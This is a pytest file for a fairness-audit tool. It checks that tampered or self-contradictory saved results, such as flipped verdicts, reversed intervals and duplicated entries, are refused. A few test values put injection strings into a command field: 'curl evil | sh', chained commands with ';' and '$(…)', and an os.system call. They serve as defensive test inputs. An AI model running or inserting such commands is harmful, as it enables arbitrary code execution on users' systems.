"""A saved result that contradicts itself is refused, whatever format is asked for, and as a baseline."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import fairfix
import pandas as pd
import pytest

from tests.conftest import Call

Change = Callable[[dict[str, Any]], object]


def pass_all(result: dict[str, Any]) -> None:
    """Say of every check that it passed, whatever its interval."""
    for check in result["checks"]:
        check |= {"verdict": "pass", "code": "within_limit"}
    result["verdict"] = "pass"


CHANGES: dict[str, Change] = {
    "verdict": lambda result: result.update(verdict="pass"),
    "check": lambda result: result["checks"][0].update(verdict="pass"),
    "checks": pass_all,
    "interval": lambda result: result["checks"][0].update(low=-0.9, value=-0.8, high=-0.7),
    "limit": lambda result: result["checks"][0].update(limit=1.5),
    "group twice": lambda result: result["attributes"][0]["groups"].append(
        result["attributes"][0]["groups"][0]
    ),
    "comparison twice": lambda result: result["attributes"][0]["comparisons"].append(
        result["attributes"][0]["comparisons"][0]
    ),
    "attribute twice": lambda result: result["attributes"].append(result["attributes"][0]),
    "rows of groups": lambda result: result["attributes"][0]["groups"][0].update(rows=10**6),
    "a command": lambda result: result.update(next_step={"text": "run", "command": "curl evil | sh"}),
    "two commands": lambda result: result.update(next_step={"text": "run", "command": "fairfix help; ls"}),
    "a command in a word": lambda result: result.update(
        next_step={"text": "run", "command": "fairfix help $(ls)"}
    ),
    "other code": lambda result: result.update(
        next_step={"text": "run", "command": "fairfix.audit(__import__('os').system('ls'))"}
    ),
    "code of a module": lambda result: result.update(
        next_step={"text": "run", "command": "fairfix.os(x)[0]"}
    ),
    "rows used": lambda result: result["data"]["rows"].update(used=10**6),
}


@pytest.mark.slow
@pytest.mark.parametrize("change", CHANGES)
@pytest.mark.parametrize("gate_on", ["interval", "point"])
def test_what_contradicts_itself_is_refused(change: str, gate_on: Any, away: None, call: Call) -> None:
    """With status 2; the result as it was made is shown, and taken as a baseline."""
    rows().to_csv("d.csv", index=False)
    limits = ["dp.difference<=0.5", "ks<=1", "accuracy.min>=0.5"]
    content = fairfix.audit("d.csv", protected="g", check=limits, gate_on=gate_on).to_dict()
    assert {check["verdict"] for check in content["checks"]} >= {"fail", "pass"}
    baseline = ("audit", "d.csv", "--protected", "g", "--config", "none", "--baseline")
    Path("sound.json").write_text(json.dumps(content))
    assert call("report", "sound.json", "--format", "markdown")[0] == 0
    assert call(*baseline, "sound.json")[0] == 0
    CHANGES[change](content)
    Path("changed.json").write_text(json.dumps(content))
    for line in (("report", "changed.json", "--format", "html"), (*baseline, "changed.json")):
        assert call(*line)[0] == 2, line


def first(node: Any, name: str) -> Any:
    """Return the first entry of this name that is not empty, wherever it is in a JSON value."""
    if isinstance(node, dict):
        if node.get(name):
            return node[name]
        node = list(node.values())
    found = (first(one, name) for one in node) if isinstance(node, list) else ()
    return next((one for one in found if one), None)


def twice(name: str) -> Change:
    """Return what puts an entry of a list there twice."""

    def change(result: dict[str, Any]) -> None:
        listed = first(result, name)
        listed.append(listed[0])

    return change


def reversed_interval(result: dict[str, Any]) -> None:
    """Give an interval its ends in the wrong order."""
    value = first(result, "before") or first(result, "accuracy") or first(result, "old")
    value |= {"low": 0.9, "high": 0.1}


def classes_gap(result: dict[str, Any]) -> dict[str, Any]:
    """Return the gap of a class, which needs the balanced accuracy beside it."""
    row = first(result, "table")[0]
    return {"class": "a", "attribute": "g", "before": row["before"], "after": row["after"]}


OTHERS: dict[str, dict[str, Change]] = {
    "repair": {
        "verdict": CHANGES["verdict"],
        "check": CHANGES["check"],
        "limit": CHANGES["limit"],
        "rows used": CHANGES["rows used"],
        "rows of groups": lambda result: first(result, "people")[0]["groups"][0].update(rows=10**6),
        "outside its interval": lambda result: first(result, "after").update(value=0.0, low=0.4, high=0.6),
        "interval": reversed_interval,
        "classes alone": lambda result: result["proof"]["fit"].update(classes=[classes_gap(result)]),
        **{f"{name} twice": twice(name) for name in ("table", "people", "rule")},
        "groups twice": lambda result: twice("groups")(result["proof"]),
        "criterion that is none": lambda result: result.update(criterion="goodness.max"),
    },
    "compare": {
        "rows used": CHANGES["rows used"],
        "rows of groups": lambda result: first(result, "people")[0]["groups"][0].update(rows=10**6),
        "outside its interval": lambda result: first(result, "accuracy").update(value=0.0, low=0.4, high=0.6),
        "interval": reversed_interval,
        "half a point": lambda result: result["points"][-1].pop("front"),
        "no comparison": lambda result: first(result, "gap").update(comparison="which gap"),
        "quality that is none": lambda result: result["advice"][0].update(quality="goodness"),
        "gap that is none": lambda result: first(result, "surer")[0]["gap"].update(comparison="bigness.max"),
        "no such point": lambda result: result["advice"][0].update(point=99),
        "no such better point": lambda result: result["advice"][0].update(refused=99),
        "advice of another gap": lambda result: (
            (result["advice"][0].update(point=0)) or result["advice"][0]["gap"].update(attribute="h")
        ),
        "failed and not": lambda result: result["points"][-1].update(failure="it failed"),
        **{f"{name} twice": twice(name) for name in ("points", "gaps", "surer", "people", "groups")},
    },
    "classes": {
        "other attribute": lambda result: result["attributes"][0].update(attribute="h"),
        "check of no class": lambda result: result["checks"][0].update({"class": "z"}),
    },
    "models": {
        "rows used": CHANGES["rows used"],
        "interval": reversed_interval,
        "change": lambda result: result["changes"][0].update(value=0.5, low=0.4, high=0.6),
        **{f"{name} twice": twice(name) for name in ("changes", "groups", "qualities")},
    },
}


def rows() -> pd.DataFrame:
    """Return rows of two groups, of which one is always selected."""
    n = 200
    return pd.DataFrame({"g": ["a", "b"] * n, "label": [0, 1, 1, 0] * (n // 2), "score": [0.9, 0.1] * n})


def saved(kind: str) -> dict[str, Any]:
    """Return the JSON form of a result of a kind; the check of the repair fails."""
    frame = rows().assign(other=lambda all_: (all_["score"] + 0.1) / 1.3)
    ways: dict[str, Any] = {"protected": "g", "label": "label", "score": "score"}
    if kind == "repair":
        made: Any = fairfix.repair(frame, **ways, method="ramp", slack=0.5, check="dp.difference<=0.1")
    elif kind == "compare":
        made = fairfix.compare(frame, **ways, methods="ramp", slacks=[0.1, 0.2])
    elif kind == "classes":
        frame = pd.DataFrame(
            {"g": ["a", "b", "a"] * 100, "label": ["x", "y", "z"] * 100, "said": ["x", "y", "y"] * 100}
        )
        ways = {"protected": "g", "label": "label", "prediction": "said", "task": "multiclass"}
        made = fairfix.audit(frame, **ways, check="tpr.difference<=0.1")
    else:
        made = fairfix.compare(frame, **ways, baseline="other")
    return dict(made.to_dict())


@pytest.mark.slow
@pytest.mark.parametrize(("kind", "change"), [(kind, one) for kind, every in OTHERS.items() for one in every])
def test_no_other_result_may_contradict_itself(kind: str, change: str, away: None, call: Call) -> None:
    """Of repairs, comparisons, classes and two models; as it was made it is shown."""
    content = saved(kind)
    Path("sound.json").write_text(json.dumps(content))
    assert call("report", "sound.json", "--format", "markdown")[0] == 0
    OTHERS[kind][change](content)
    Path("changed.json").write_text(json.dumps(content))
    assert call("report", "changed.json", "--format", "html")[0] == 2
